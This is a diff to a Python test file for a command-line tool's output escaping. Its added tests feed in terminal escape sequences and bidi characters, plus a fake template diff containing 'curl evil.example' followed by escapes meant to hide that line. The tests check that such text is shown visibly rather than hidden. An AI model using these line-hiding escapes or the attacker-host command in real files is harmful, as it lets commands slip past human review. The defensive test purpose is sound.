@@ -6,6 +6,7 @@ import re
 
 import orjson
 import pytest
+import structlog
 from hypothesis import given
 from hypothesis import strategies as st
 from rich.console import Group
@@ -13,6 +14,9 @@ from rich.text import Text
 
 from regworkers_core.cli import main, output
 from regworkers_core.cli.output import Format, answer, facts, rows, visible
+from regworkers_core.cli.template import _told
+from regworkers_core.observability.logs import configure_logging
+from regworkers_core.operations.template.update import TemplateUpdate
 
 # ESC, CSI as one character, DEL, the turn of direction, Unicode's ends of lines, and those that rich drops.
 HOSTILE = "a\x1b[2Jb\x9b2Kc\x7fd\u202ee\u2028f\u2029g\u2066h\rj\x07k\bl"
@@ -66,3 +70,23 @@ def test_an_error_shows_what_it_quotes(capsys: pytest.CaptureFixture[str]) -> No
         main._leave(f"no entry {HOSTILE}\nsecond line")
     assert left.value.code == output.TROUBLE
     assert capsys.readouterr().err == f"regworkers: no entry {SHOWN}\nsecond line\n"
+
+
+def test_the_diff_of_a_template_hides_no_line(capsys: pytest.CaptureFixture[str]) -> None:
+    diff = "+run: curl evil.example\x1b[2K\x1b[1A\x1b[8m\n+\tfine \u202e\n-gone\r\n"
+    update = TemplateUpdate("t", None, "v2", (), ("Makefile",), (), (), (), diff, False)
+    for form in Format:
+        answer(update.as_dict(), form, _told(update))
+        out = capsys.readouterr().out
+        assert not ACTS.search(out) and "curl evil.example" in out
+        assert ("\\x1b[2K\\x1b[1A\\x1b[8m" if form is Format.TEXT else "\\u001b[2K") in out
+
+
+def test_a_line_of_the_log_shows_what_it_quotes(capfd: pytest.CaptureFixture[str]) -> None:
+    before = structlog.get_config()
+    try:
+        configure_logging(human=True)
+        structlog.get_logger().warning("entry refused", entry=HOSTILE)
+    finally:
+        structlog.configure(**before)
+    assert "\\x1b[2J" in capfd.readouterr().err
